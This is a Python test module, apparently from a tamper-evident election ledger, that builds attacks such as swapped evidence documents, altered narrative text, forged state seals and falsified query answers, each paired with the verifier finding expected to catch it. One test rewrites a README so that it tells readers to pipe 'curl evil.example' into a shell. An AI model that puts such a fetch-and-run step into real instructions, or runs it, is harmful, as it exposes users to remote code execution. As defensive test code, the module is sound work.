"""Attacks on what lies beside the entries: documents, state seals, answers with their proof, and the words on top."""

import json
import shutil
from collections.abc import Callable, Iterator
from hashlib import sha256
from pathlib import Path
from typing import Any

from ledger import demo
from ledger.chain import canonical
from ledger.chain.keys import PrivateKey
from ledger.demo import Files
from ledger.tamper import attack, forging
from ledger.tamper.attack import Attack, Found, Mount
from ledger.tamper.forging import Json
from ledger.tamper.lab import HONEST, MISSEALED, REASONS, Lab

UNIT = "010"
_BYTES_MAX = 1 << 24


def attacks(lab: Lab) -> Iterator[Attack]:
    """The attacks of this kind."""
    yield from _documents()
    yield from _words(lab)
    yield from _seals(lab)
    yield from _answers(lab)


def _bundle(change: Callable[[Lab, Files], Files], *, words: bool = False) -> Mount:
    def mount(lab: Lab, folder: Path) -> None:
        (folder / "bundle.zip").write_bytes(demo.pack(change(lab, lab.files(words=words))))

    return mount


# -- documents ---------------------------------------------------------------------------------------


def _documents() -> Iterator[Attack]:
    name, other = f"evidence/{sha256(REASONS).hexdigest()}", b"Reasons that nobody gave.\n"
    added = f"evidence/{sha256(other).hexdigest()}"

    def missing(lab: Lab, files: Files) -> Files:
        return {key: data for key, data in files.items() if key != name}

    for numbers, title, told, change, look in (
        ((58,), "document-swapped", "other reasons lie under the digest of those that the board gave",
         lambda lab, files: files | {name: other}, attack.bundle("V15", "document_differs", None)),
        ((58,), "document-put-in", "a document that no act names is put into the bundle",
         lambda lab, files: files | {added: other}, attack.bundle("V15", "document_not_named", None)),
        ((60,), "document-missing", "the reasons are left out, and no act says why: nothing is contradicted, nothing said to be fine",
         missing, attack.plain(attack.INCOMPLETE, sees=True)),
    ):  # fmt: skip
        yield Attack(numbers=numbers, name=title, told=told, mount=_bundle(change), looks=(look,))


# -- what is told in words -----------------------------------------------------------------------------


def _words(lab: Lab) -> Iterator[Attack]:
    ruling, story = lab.index("board-2"), "story.en.txt"

    def replaced(name: str, old: bytes, new: bytes) -> Mount:
        def change(lab: Lab, files: Files) -> Files:
            assert old in files[name], (name, old)
            return files | {name: files[name].replace(old, new, 1)}

        return _bundle(change, words=True)

    def silent(lab: Lab, files: Files) -> Files:
        told = files[story].split(b"\n\n")
        return files | {story: b"\n\n".join(told[:ruling] + told[ruling + 1 :])}

    for name, told, mount, index in (
        ("story-says-another-thing", "the story names other grounds than the act", replaced(story, b"excess_ballots", b"bribery"), ruling),
        ("story-keeps-silent", "the annulment is left out of the story", _bundle(silent, words=True), ruling),
    ):  # fmt: skip
        look = attack.bundle("V28", "story_differs", index)
        yield Attack(numbers=(69,), name=name, told=told, mount=mount, looks=(look,))
    yield Attack(
        numbers=(69,), name="readme-sends-elsewhere", told="README.txt tells its readers to run another program",
        mount=replaced("README.txt", b"eal-verify bundle", b"curl evil.example |"),
        looks=(attack.bundle("V28", "readme_differs", None),),
    )  # fmt: skip


# -- state seals ---------------------------------------------------------------------------------------


def _sealed(lab: Lab, signing: PrivateKey, **stated: Any) -> Mount:
    """One more entry: a seal that states this."""
    last = next(e for e in reversed(lab.entries) if e["act"]["events"][0]["type"] == "state.sealed")
    given: Json = json.loads(json.dumps(last["act"]))
    given["act_id"] = "forged-seal"
    given["events"][0]["fields"] |= {"position": lab.size} | stated
    files = forging.appended(lab, given, [signing])
    return _bundle(lambda lab, _: files)


def _seals(lab: Lab) -> Iterator[Attack]:
    lying = attack.bundle("V25", "seal_differs", lab.size)
    for numbers, name, told, mount, look in (
        ((53, 54), "seal-of-another-state", "the recorder key seals a state that does not follow from the entries",
         _sealed(lab, lab.recorder, root="ab" * 32), lying),
        ((39, 53), "seal-of-an-older-position", "a seal is made of a position before that of the last one",
         _sealed(lab, lab.recorder, position=9), attack.bundle("V25", "seal_position", lab.size)),
        ((27,), "seal-by-a-member", "a member seals the state, whose key may sign acts and no seals",
         _sealed(lab, lab.person("ana")), attack.bundle("V11", "unlisted_signer", lab.size)),
    ):  # fmt: skip
        yield Attack(numbers=numbers, name=name, told=told, mount=mount, looks=(look,))

    def missealed(lab: Lab, folder: Path) -> None:
        source = lab.folder / MISSEALED
        shutil.copytree(source, folder, dirs_exist_ok=True)
        (folder / "bundle.zip").write_bytes(demo.pack(lab.files(MISSEALED)))

    yield Attack(
        numbers=(53, 54), name="ledger-that-seals-falsely", told="the program was changed: what it sealed is not the state, and all else is in order",
        mount=missealed, looks=(lying, attack.doctor("seals", "seal_differs", lab.size)),
    )  # fmt: skip


# -- answers with their proof --------------------------------------------------------------------------


def _sheet(proof: Json, key: str) -> Json:
    (found,) = (sheet for sheet in proof["sheets"] if sheet["key"] == key)
    return dict(found)


def _stands(proof: Json) -> None:
    proof["answer"]["polls"][0]["standing"] = "annulled"


def _counted_with_false(proof: Json) -> None:
    poll = proof["answer"]["polls"][0]
    assert poll["without_basis"] is False
    poll["without_basis"] = 0


def _act_left_out(proof: Json) -> None:
    acts = _sheet(proof, f"unit:{UNIT}")["acts"]
    acts.remove(next(one for one in acts if one["rows"][0]["act"] == "board-2"))


def _sheet_hidden(proof: Json) -> None:
    proof["sheets"].remove(_sheet(proof, "act:board-2"))


def _sheet_denied(proof: Json) -> None:
    _sheet_hidden(proof)
    proof["absent"].append({**proof["absent"][0], "key": "act:board-2"})
    proof["absent"].sort(key=lambda one: str(one["key"]))


def _unchanged(proof: Json) -> None:
    """The proof is true, and no answer to what was asked."""


def _answers(lab: Lab) -> Iterator[Attack]:
    asked, later = ("--unit", UNIT), ("--since", str(lab.size))
    rows: list[tuple[str, str, Callable[[Json], None], str, tuple[str, ...], Found]] = [
        ("answer-that-lies", "the polling station is shown as annulled, which the court reversed", _stands, UNIT, asked, ("V27", "state_differs", None)),
        ("answer-with-nothing-for-false", "0 stands where the answer is false: to some programs the same", _counted_with_false, UNIT, asked, ("V27", "state_differs", None)),
        ("answer-about-another-place", "a true answer about the village, to who asked about the school", _unchanged, "village", asked, ("V27", "other_unit", None)),
        ("answer-by-an-old-seal", "the reader knows that the state was sealed later", _unchanged, UNIT, later, ("V27", "answer_is_old", None)),
        ("answer-without-an-act", "the annulment is left out of what lies on the polling station", _act_left_out, UNIT, asked, ("V26", "sheet_not_sealed", None)),
        ("answer-without-a-sheet", "the sheet of the annulment is not shown", _sheet_hidden, UNIT, asked, ("V27", "sheet_missing", None)),
        ("answer-that-denies-a-sheet", "the sheet of the annulment is said to be absent", _sheet_denied, UNIT, asked, ("V26", "absence_differs", None)),
    ]  # fmt: skip
    for name, told, change, unit, words, found in rows:
        number = 39 if found[1] == "answer_is_old" else 54
        look = attack.answer(found, *words)
        mount = _answered(change, unit)
        yield Attack(numbers=(number,), name=name, told=told, mount=mount, looks=(look,))


def _answered(change: Callable[[Json], None], unit: str) -> Mount:
    def mount(lab: Lab, folder: Path) -> None:
        proof: Json = json.loads((lab.folder / HONEST / f"proof-{unit}.json").read_bytes())
        change(proof)
        (folder / "proof.json").write_bytes(canonical.dumps(proof, limit=_BYTES_MAX))

    return mount
